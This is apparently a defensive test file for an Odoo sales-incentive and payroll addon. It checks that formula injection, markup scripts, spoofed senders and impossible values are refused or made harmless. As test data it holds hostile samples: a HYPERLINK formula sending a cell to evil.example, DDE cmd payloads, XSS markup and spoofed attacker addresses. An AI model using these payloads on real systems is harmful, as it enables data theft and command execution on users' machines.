"""Hostile and absurd input: each is answered with a clear error and nothing
written, or handled harmlessly (and the test says which).

Formula injection into the payroll workbook, HTML and scripts in signals and
e-mails, absurd revenues and weights, overlapping rule versions, archived
people, people without users, records crossing companies, spoofed senders
and impossible hours.
"""

import base64
import calendar
import io
import unittest
from datetime import timedelta

import openpyxl
from psycopg2 import IntegrityError

from odoo import Command, fields
from odoo.exceptions import AccessError, UserError, ValidationError
from odoo.tests import new_test_user, tagged
from odoo.tools import mute_logger

from .common import PayoutCase
from .test_mail_gateway import EMAIL, SignalMailCase

# What a spreadsheet would run if it took a text for a formula (CSV/XLSX
# injection): formulas, DDE, a hyperlink, and the prefixes + - @ and a tab.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"給与明細")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "=1+1",
]
SCRIPT = (
    '<p>続きは<a href="javascript:alert(1)">こちら</a></p>'
    "<script>alert('xss')</script>"
    '<img src="x" onerror="alert(2)">'
    '<iframe src="https://evil.example"></iframe>'
    '<p onclick="steal()">本文</p>'
)
DANGEROUS = ("<script", "onerror", "javascript:", "<iframe", "onclick")


def month_hours(day):
    return calendar.monthrange(day.year, day.month)[1] * 24


@tagged("post_install", "-at_install")
class TestFormulaInjection(PayoutCase):
    """Every text that reaches the payroll workbook is written as text."""

    def _workbook(self, payout):
        payout.action_export_xlsx()
        return openpyxl.load_workbook(io.BytesIO(base64.b64decode(payout.xlsx_file)))

    def _assert_all_text(self, book, expected):
        seen = set()
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is None:
                        continue
                    self.assertNotEqual(cell.data_type, "f", f"{sheet.title}!{cell.coordinate}")
                    if isinstance(cell.value, str):
                        self.assertEqual(cell.data_type, "s", f"{sheet.title}!{cell.coordinate}")
                        seen.update(text for text in expected if text in cell.value)
        self.assertEqual(seen, set(expected), "each hostile text is in the workbook, verbatim")

    def test_every_text_of_the_payroll_workbook_stays_text(self):
        employee_name, department_name, deal_name, rule_name, code = FORMULAS[:5]
        # The employee key column holds the payroll employee code HR typed.
        self.employee_support.write({"name": employee_name, "everyone_sells_payroll_code": code})
        self.employee_engineer.name = FORMULAS[5]
        self.dept_support.name = department_name
        self.rule_won.with_user(self.user_admin).name = rule_name
        lead, entries = self.won_and_approved(
            contributors=[
                (self.employee_support, 2, "originator"),
                (self.employee_engineer, 1, "technical"),
            ],
            name=deal_name,
        )
        lead.name = deal_name
        self.assertTrue(all(rule_name in entry.explanation for entry in entries))
        payout = self.payout()
        payout.action_compute()
        payout.line_ids.write({"worked_hours": 160})
        payout.action_confirm()
        for lang in ("en_US", "ja_JP"):
            with self.subTest(lang=lang):
                if lang == "ja_JP":
                    self.env["res.lang"]._activate_lang("ja_JP")
                payout.export_lang = lang
                book = self._workbook(payout)
                self._assert_all_text(book, FORMULAS[:6])
                names = [row[1] for row in book.worksheets[0].iter_rows(values_only=True)]
                self.assertIn(employee_name, names)

    def test_an_explanation_that_starts_like_a_formula_stays_text(self):
        dispute = (
            self.env["crm.contribution.dispute"]
            .with_user(self.user_support)
            .create({"signal_id": self.log_signal().id, "reason": "=1+1"})
        )
        wizard = (
            self.env["crm.contribution.adjust"]
            .with_user(self.user_manager)
            .create(
                {
                    "dispute_id": dispute.id,
                    "amount": 1_000,
                    "explanation": '=HYPERLINK("http://evil.example","調整")',
                }
            )
        )
        wizard.action_apply()
        dispute.adjustment_id.with_user(self.user_admin).action_approve()
        payout = self.payout()
        payout.action_compute()
        payout.line_ids.write({"worked_hours": 160})
        payout.action_confirm()
        self._assert_all_text(self._workbook(payout), ['=HYPERLINK("http://evil.example","調整")'])

    def test_hours_template_and_evaluation_workbooks_stay_text_too(self):
        self.employee_support.name = FORMULAS[1]
        self.dept_support.name = FORMULAS[0]
        self.won_and_approved()
        payout = self.payout()
        payout.action_compute()
        action = payout.action_download_hours_template()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[-1].split("?")[0])
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        self._assert_all_text(book, [FORMULAS[1]])
        export = (
            self.env["crm.contribution.evaluation.export"]
            .with_user(self.user_manager)
            # From a month earlier: the facts' days may differ by a time zone.
            .create(
                {"company_id": self.company.id, "date_from": self.month_start - timedelta(days=31)}
            )
        )
        export.with_context(allowed_company_ids=self.company.ids).action_export_xlsx()
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(export.xlsx_file)))
        self._assert_all_text(book, FORMULAS[:2])


@tagged("post_install", "-at_install")
class TestMarkupIsSanitized(PayoutCase):
    def test_signal_description_loses_scripts(self):
        signal = self.log_signal(description=SCRIPT)
        for needle in DANGEROUS:
            self.assertNotIn(needle, signal.description)
        self.assertIn("本文", signal.description)
        signal.with_user(self.user_support).write({"description": SCRIPT})
        for needle in DANGEROUS:
            self.assertNotIn(needle, signal.description)

    def test_handoff_copies_no_script_and_escapes_the_summary(self):
        signal = self.log_signal(name="<b>至急</b><script>alert(1)</script>", description=SCRIPT)
        lead, _action = self.hand_off(signal, note="<img src=x onerror=alert(3)>よろしく")
        for needle in DANGEROUS:
            self.assertNotIn(needle, str(lead.description))
        self.assertIn("&lt;script&gt;", str(lead.description), "the summary is text")
        for message in lead.message_ids | signal.message_ids:
            self.assertNotIn("<img", str(message.body))
            self.assertNotIn("<script", str(message.body))

    def test_decline_note_and_resolution_are_text_for_the_originator(self):
        signal = self.log_signal()
        wizard = (
            self.env["crm.signal.decline"]
            .with_user(self.user_salesman)
            .create(
                {
                    "signal_ids": [Command.set(signal.ids)],
                    "reason": "other",
                    "note": "<script>alert(1)</script>重複です",
                }
            )
        )
        wizard.action_apply()
        told = signal.message_ids.filtered(lambda m: "重複です" in str(m.body))
        self.assertTrue(told)
        self.assertNotIn("<script", str(told.body))


@tagged("post_install", "-at_install")
class TestHostileMail(SignalMailCase):
    def test_html_mail_is_sanitized(self):
        message = EMAIL.format(
            email_from=self.user_support.email,
            to=self.alias_email,
            subject="HTMLメール",
            msg_id="<html-mail@example.jp>",
            body="plain part",
        ).replace(
            'Content-Type: text/plain; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n'
            "plain part",
            'Content-Type: text/html; charset="utf-8"\nContent-Transfer-Encoding: 8bit\n\n'
            f"<html><body>{SCRIPT}</body></html>",
            1,
        )
        with self.mock_mail_gateway():
            self.env["mail.thread"].sudo().message_process(None, message)
        signal = self.env["crm.signal"].search([("name", "=", "HTMLメール")])
        self.assertEqual(len(signal), 1)
        self.assertIn("本文", signal.description)
        for needle in DANGEROUS:
            self.assertNotIn(needle, signal.description)
            self.assertNotIn(needle, str(signal.message_ids.mapped("body")))

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_spoofed_and_unknown_senders_create_nothing(self):
        employee_address = self.user_support.email
        senders = [
            # The display name claims the employee; the address is not theirs.
            f'"{employee_address}" <attacker@evil.example>',
            f'"佐藤 花子 ({employee_address})" <attacker@evil.example>',
            # Look-alike domain, and a sub-address trick.
            employee_address.replace("example.jp", "example.jp.evil.example"),
            f"{employee_address.split('@')[0]}+x@evil.example",
            # Two senders: which one is accountable?
            f"attacker@evil.example, {employee_address}",
            # No sender at all.
            "undisclosed-recipients:;",
        ]
        before = self.env["crm.signal"].search_count([])
        for index, sender in enumerate(senders):
            with self.subTest(sender=sender):
                self.assertFalse(self._receive(sender, f"なりすまし {index}"))
        self.assertEqual(self.env["crm.signal"].search_count([]), before)

    @mute_logger("odoo.addons.mail.models.mail_thread")
    def test_user_archived_but_address_known_creates_nothing(self):
        self.user_engineer.active = False
        self.employee_engineer.active = False
        self.assertFalse(self._receive(self.user_engineer.email, "退職後のメール"))


@tagged("post_install", "-at_install")
class TestAbsurdRevenue(PayoutCase):
    def _won(self, revenue, **values):
        lead = self.make_deal(revenue=revenue, signal_name=f"案件 {revenue}", **values)
        self.mark_won(lead)
        return lead, self.credits(lead)

    def test_zero_revenue_earns_nothing_by_percentage(self):
        _lead, entries = self._won(0)
        self.assertFalse(entries, "5 % of nothing is nothing, and no empty line is written")

    def test_negative_revenue_never_books_negative_credit(self):
        _lead, entries = self._won(-1_000_000)
        self.assertFalse(entries.filtered(lambda e: e.amount < 0))

    def test_negative_signal_estimate_is_refused(self):
        before = self.env["crm.signal"].search_count([])
        with self.assertRaises(ValidationError):
            self.log_signal(estimated_revenue=-500_000)
        self.assertEqual(self.env["crm.signal"].search_count([]), before)

    def test_huge_revenue_is_credited_exactly(self):
        """¥123 trillion: exact to the yen, through the split, the payout and the
        workbook."""
        self.make_rule(name="定額", compute_method="fixed", fixed_amount=10_000)
        revenue = 123_456_789_012_345
        lead, entries = self._won(
            revenue,
            contributors=[
                (self.employee_support, 1, "originator"),
                (self.employee_engineer, 1, "technical"),
                (self.employee_marketer, 1, "other"),
            ],
        )
        self.assertEqual(lead.expected_revenue, revenue)
        percent = entries.filtered(lambda e: e.rule_id == self.rule_won)
        self.assertEqual(set(percent.mapped("basis_amount")), {revenue})
        # 5 % = 6,172,839,450,617.25 → ¥6,172,839,450,617, split 3 ways exactly.
        self.assertEqual(sum(percent.mapped("amount")), 6_172_839_450_617)
        self.assertEqual(
            sorted(percent.mapped("amount")),
            [2_057_613_150_205, 2_057_613_150_206, 2_057_613_150_206],
        )
        self.assertTrue(all(amount == int(amount) for amount in entries.mapped("amount")))
        self.assertIn("123,456,789,012,345", percent[0].explanation)
        entries.with_user(self.user_admin).action_approve()
        payout = self.payout()
        payout.action_compute()
        payout.line_ids.write({"worked_hours": 200, "overtime_hours": 40})
        line = self.line_of(payout, self.employee_support)
        mine = entries.filtered(lambda e: e.employee_id == self.employee_support)
        self.assertEqual(line.incentive_amount, sum(mine.mapped("amount")))
        self.assertGreater(line.overtime_premium_amount, 0)
        payout.action_confirm()
        payout.action_export_xlsx()

    def test_absurd_revenue_does_not_crash(self):
        """¥10^15 (beyond 2^49): no crash, shares still sum exactly to the rule's
        total; but see the skipped test below for the basis."""
        _lead, entries = self._won(
            1e15,
            contributors=[
                (self.employee_support, 1, "originator"),
                (self.employee_engineer, 1, "technical"),
                (self.employee_marketer, 1, "other"),
            ],
        )
        self.assertEqual(sum(entries.mapped("amount")), 50_000_000_000_000)
        self.assertTrue(all(amount == int(amount) for amount in entries.mapped("amount")))

    @unittest.skip(
        "BUG: revenues of ¥10^15 and more are not kept exactly: each Monetary rounding "
        "(Odoo's float_round adds an epsilon that is >= 1 yen beyond 2^49) adds ¥1, so a "
        "deal entered at 1,000,000,000,000,000 is stored as ...002, credited on a basis "
        "of ...003 and explained with ...003. Fix: refuse absurd amounts with a "
        "ValidationError (e.g. @api.constrains on crm.lead expected_revenue in "
        "crm_lead.py and on crm.signal estimated_revenue, above ¥10^13), or build "
        "basis_amount and the explanation from the lead's stored value without "
        "rounding it again (crm_contribution_crediting.py _insert_entries / Explainer._money)."
    )
    def test_absurd_revenue_is_refused_or_kept_exactly(self):
        lead, entries = self._won(1e15)
        self.assertEqual(lead.expected_revenue, 1e15)
        self.assertEqual(entries.basis_amount, 1e15)
        self.assertIn("1,000,000,000,000,000 ", entries.explanation.replace("\xa0", " "))

    def test_not_a_number_revenue_on_a_deal_writes_nothing(self):
        """Odoo's own Monetary field refuses NaN and infinity (with a ValueError /
        OverflowError, not a friendly message): nothing is written or credited."""
        lead = self.make_deal()
        for value, error in ((float("nan"), ValueError), (float("inf"), OverflowError)):
            with self.subTest(value=value), self.assertRaises(error), self.env.cr.savepoint():
                lead.write({"expected_revenue": value, "stage_id": self.stage_won.id})
                self.env.flush_all()
            self.env.invalidate_all()
            self.assertEqual(lead.expected_revenue, 1_000_000)
            self.assertFalse(self.credits(lead))

    def test_not_a_number_signal_estimate_is_refused_clearly(self):
        for value in (float("nan"), float("inf")):
            with self.subTest(value=value), self.assertRaises(ValidationError):
                self.log_signal(estimated_revenue=value)


@tagged("post_install", "-at_install")
class TestContributorWeights(PayoutCase):
    def test_negative_weight_is_refused_and_nothing_written(self):
        lead = self.make_deal()
        before = lead.contributor_ids
        with self.assertRaises(ValidationError):
            lead.contributor_ids = [
                Command.create(
                    {"employee_id": self.employee_engineer.id, "weight": -1, "role": "technical"}
                )
            ]
        lead.invalidate_recordset()
        self.assertEqual(lead.contributor_ids, before)

    def test_weights_all_zero_are_refused(self):
        lead = self.make_deal()
        with self.assertRaises(ValidationError):
            lead.contributor_ids.write({"weight": 0})


@tagged("post_install", "-at_install")
class TestRuleVersions(PayoutCase):
    def test_overlapping_version_is_refused_and_nothing_written(self):
        rule = self.rule_won.with_user(self.user_admin)
        action = rule.action_new_version()
        version = self.env["crm.contribution.rule"].browse(action["res_id"])
        before = (rule.date_to, version.date_from)
        with self.assertRaises(ValidationError):
            version.with_user(self.user_admin).date_from = rule.date_to
        self.env.invalidate_all()
        self.assertEqual((rule.date_to, version.date_from), before)

    def test_rule_ending_before_it_starts_is_refused(self):
        before = self.env["crm.contribution.rule"].search_count([])
        with self.assertRaises(ValidationError):
            self.make_rule(name="逆転", date_from="2025-04-01", date_to="2025-03-31")
        self.assertEqual(self.env["crm.contribution.rule"].search_count([]), before)

    @mute_logger("odoo.sql_db")
    def test_negative_amounts_are_refused(self):
        before = self.env["crm.contribution.rule"].search_count([])
        for field in ("percentage", "fixed_amount", "cap_per_deal", "points", "min_revenue"):
            with (
                self.subTest(field=field),
                self.assertRaises(IntegrityError),
                self.env.cr.savepoint(),
            ):
                self.make_rule(name=f"負の{field}", **{field: -1})
        self.assertEqual(self.env["crm.contribution.rule"].search_count([]), before)


@tagged("post_install", "-at_install")
class TestPeople(PayoutCase):
    def test_employee_archived_keeps_their_credit_and_is_paid(self):
        lead, entries = self.won_and_approved()
        self.employee_support.active = False
        payout = self.payout()
        payout.action_compute()
        self.assertEqual(self.line_of(payout, self.employee_support).incentive_amount, 50_000)
        self.assertEqual(lead.contribution_ids, entries)

    def test_archived_employee_cannot_log_a_signal(self):
        self.employee_support.active = False
        before = self.env["crm.signal"].search_count([])
        with self.assertRaisesRegex(UserError, "not linked to an employee"):
            self.log_signal()
        self.assertEqual(self.env["crm.signal"].search_count([]), before)

    def test_user_without_employee_cannot_log_or_contest(self):
        before = (
            self.env["crm.signal"].search_count([]),
            self.env["crm.contribution.dispute"].search_count([]),
        )
        with self.assertRaisesRegex(UserError, "not linked to an employee"):
            self.log_signal(user=self.user_no_employee)
        with self.assertRaises(UserError):
            self.env["crm.contribution.dispute"].with_user(self.user_no_employee).create(
                {"reason": "私にも"}
            )
        after = (
            self.env["crm.signal"].search_count([]),
            self.env["crm.contribution.dispute"].search_count([]),
        )
        self.assertEqual(after, before)

    def test_employee_without_user_is_credited_and_paid(self):
        lead, _entries = self.won_and_approved(
            contributors=[
                (self.employee_support, 1, "originator"),
                (self.employee_without_user, 1, "technical"),
            ]
        )
        credit = self.credits(lead, self.employee_without_user)
        self.assertEqual(credit.amount, 25_000)
        self.assertIn("25,000", credit.explanation)
        payout = self.payout()
        payout.action_compute()
        self.assertEqual(self.line_of(payout, self.employee_without_user).incentive_amount, 25_000)

    def test_originator_whose_user_was_archived_is_still_credited(self):
        lead = self.make_deal()
        self.user_support.active = False
        self.mark_won(lead)
        credit = self.credits(lead)
        self.assertEqual(credit.employee_id, self.employee_support)
        self.assertEqual(credit.amount, 50_000)
        credit.with_user(self.user_admin).action_approve()
        payout = self.payout()
        payout.action_compute()
        self.assertEqual(self.line_of(payout, self.employee_support).incentive_amount, 50_000)

    def test_employee_cannot_decline_own_signal(self):
        signal = self.log_signal()
        wizard = (
            self.env["crm.signal.decline"]
            .with_user(self.user_support)
            .create({"signal_ids": [Command.set(signal.ids)], "reason": "not_actionable"})
        )
        with self.assertRaises(AccessError):
            wizard.action_apply()
        self.assertEqual(signal.state, "new")
        self.assertFalse(signal.decline_reason)


@tagged("post_install", "-at_install")
class TestAcrossCompanies(PayoutCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.dept_other = cls.env["hr.department"].create(
            {"name": "営業部", "company_id": cls.other_company.id}
        )
        cls.user_both = new_test_user(
            cls.env,
            login="es_hostile_both",
            name="両社 兼務",
            groups="base.group_user,sales_team.group_sale_manager,crm_everyone_sells.group_admin",
            company_id=cls.company.id,
            company_ids=[Command.set((cls.company | cls.other_company).ids)],
        )
        cls.employee_other = cls.env["hr.employee"].create(
            {
                "name": "別会社 社員",
                "department_id": cls.dept_other.id,
                "company_id": cls.other_company.id,
            }
        )

    def _signal_of_other_company(self):
        return (
            self.env["crm.signal"]
            .with_company(self.other_company)
            .create(
                {
                    "name": "別会社のお客様の声",
                    "employee_id": self.employee_other.id,
                    "company_id": self.other_company.id,
                }
            )
        )

    def test_signal_of_another_company_cannot_join_our_opportunity(self):
        signal = self._signal_of_other_company()
        lead = self.make_deal()
        wizard = (
            self.env["crm.signal.handoff"]
            .with_user(self.user_both)
            .with_context(allowed_company_ids=(self.company | self.other_company).ids)
            .create({"signal_ids": [Command.set(signal.ids)], "mode": "link", "lead_id": lead.id})
        )
        with self.assertRaisesRegex(UserError, "another company"):
            wizard.action_apply()
        self.assertEqual(signal.state, "new")
        self.assertFalse(signal.lead_id)
        self.assertNotIn(signal, lead.signal_ids)

    def test_signals_of_two_companies_cannot_go_to_one_opportunity(self):
        ours = self.log_signal()
        theirs = self._signal_of_other_company()
        wizard = (
            self.env["crm.signal.handoff"]
            .with_user(self.user_both)
            .with_context(allowed_company_ids=(self.company | self.other_company).ids)
            .create({"signal_ids": [Command.set((ours | theirs).ids)], "name": "合同案件"})
        )
        leads_before = self.env["crm.lead"].search_count([])
        with self.assertRaisesRegex(UserError, "different companies"):
            wizard.action_apply()
        self.assertEqual(self.env["crm.lead"].search_count([]), leads_before)
        self.assertEqual((ours | theirs).mapped("state"), ["new", "new"])

    def test_contributor_of_another_company_is_refused(self):
        lead = self.make_deal()
        with self.assertRaises(ValidationError):
            lead.contributor_ids = [
                Command.create({"employee_id": self.employee_other.id, "role": "technical"})
            ]

    def test_other_company_cannot_read_or_pay_our_ledger(self):
        _lead, entries = self.won_and_approved()
        Payout = (
            self.env["crm.contribution.payout"]
            .with_user(self.user_both)
            .with_context(allowed_company_ids=self.other_company.ids)
        )
        payout = Payout.create(
            {
                "company_id": self.other_company.id,
                "date_from": self.month_start,
                "date_to": self.month_end,
            }
        )
        payout.action_compute()
        self.assertFalse(payout.entry_ids)
        self.assertFalse(entries.payout_id, "our entries stay ours")
        with self.assertRaises(AccessError):
            entries.with_user(self.user_both).with_context(
                allowed_company_ids=self.other_company.ids
            ).read(["amount"])


@tagged("post_install", "-at_install")
class TestImpossibleHours(PayoutCase):
    def setUp(self):
        super().setUp()
        self.won_and_approved()
        self.run = self.payout()
        self.run.action_compute()
        self.line = self.line_of(self.run, self.employee_support)
        self.line.write({"worked_hours": 170, "overtime_hours": 10, "late_night_hours": 2})

    def _refused(self, values, error=ValidationError):
        before = self.line.read(list(values))[0]
        with self.assertRaises(error):
            self.line.write(values)
            self.env.flush_all()
        self.line.invalidate_recordset()
        self.assertEqual(self.line.read(list(values))[0], before, "nothing written")

    def test_more_hours_than_the_month_holds(self):
        hours = month_hours(self.run.date_to)
        self._refused({"worked_hours": hours + 1})
        self.line.write({"worked_hours": hours})  # every hour of the month: possible

    def test_negative_hours(self):
        for field in ("worked_hours", "overtime_hours", "late_night_hours", "holiday_hours"):
            with self.subTest(field=field):
                self._refused({field: -1})

    def test_parts_larger_than_the_whole(self):
        self._refused({"overtime_hours": 171})
        self._refused({"overtime_hours": 100, "holiday_hours": 71})
        self._refused({"late_night_hours": 171})

    @unittest.skip(
        "BUG (minor, RPC only): worked hours of NaN or infinity fail with ValueError / "
        "OverflowError from Odoo's Float conversion instead of the clear ValidationError "
        "the other impossible hours get (the addon's _check_hours never runs). Fix: in "
        "crm_contribution_payout_line.py write (and create), refuse hour fields that are "
        "not finite (math.isfinite) with the same ValidationError message."
    )
    def test_not_a_number_hours(self):
        for value in (float("nan"), float("inf")):
            with self.subTest(value=value):
                self._refused({"worked_hours": value})

    def test_hours_imported_from_the_template_are_checked_too(self):
        action = self.run.action_download_hours_template()
        attachment = self.env["ir.attachment"].browse(
            int(action["url"].split("/")[-1].split("?")[0])
        )
        book = openpyxl.load_workbook(io.BytesIO(base64.b64decode(attachment.datas)))
        xmlid = next(
            row[0]
            for row in book["hours"].iter_rows(min_row=2, values_only=True)
            if row[1] == self.employee_support.name
        )
        result = self.env["crm.contribution.payout.line"].load(
            ["id", "worked_hours"], [[xmlid, str(month_hours(self.run.date_to) + 100)]]
        )
        self.assertTrue(result["messages"], "the import reports the error")
        self.assertFalse(result["ids"])
        self.line.invalidate_recordset()
        self.assertEqual(self.line.worked_hours, 170)

    def test_confirmed_payout_hours_are_history(self):
        self.run.action_confirm()
        with self.assertRaisesRegex(UserError, "payroll history"):
            self.line.with_user(self.user_admin).write({"worked_hours": 1})
        self.assertEqual(self.line.worked_hours, 170)

    def test_dates_of_a_payout_cannot_run_backwards(self):
        before = self.env["crm.contribution.payout"].search_count([])
        with self.assertRaises(ValidationError):
            self.payout(self.next_end, self.next_start)
        self.assertEqual(self.env["crm.contribution.payout"].search_count([]), before)
        self.assertEqual(fields.Date.to_date(self.run.date_from), self.month_start)


@tagged("post_install", "-at_install")
class TestUnsupportedSearches(PayoutCase):
    """The "Mine", "Overdue"… filters accept = and != with True or False;
    anything else is refused by name, in the user's language."""

    def test_operators_other_than_equality_are_refused(self):
        self.env["res.lang"]._activate_lang("ja_JP")
        self.env["ir.module.module"]._load_module_terms(
            ["crm_everyone_sells"], ["ja_JP"], overwrite=True
        )
        searches = [
            ("crm.contribution", "is_mine", "Mine", "自分"),
            ("crm.contribution", "is_reversed", "Reversed", "取消済み"),
            ("crm.signal", "is_overdue", "Overdue", "期限超過"),
            ("crm.signal", "in_my_department", "My Department", "自分の部門"),
            ("crm.signal", "routed_to_me", "Routed to Me", "自分宛ての回付"),
        ]
        for model, name, english, japanese in searches:
            for operator, value in (("in", [True]), ("=", 1), (">", False)):
                with self.subTest(field=name, operator=operator):
                    with self.assertRaisesRegex(UserError, f"'{english}'"):
                        self.env[model].search([(name, operator, value)])
                    with self.assertRaisesRegex(UserError, japanese):
                        self.env[model].with_context(lang="ja_JP").search([(name, operator, value)])
            self.env[model].search([(name, "=", True)])
            self.env[model].search([(name, "!=", True)])
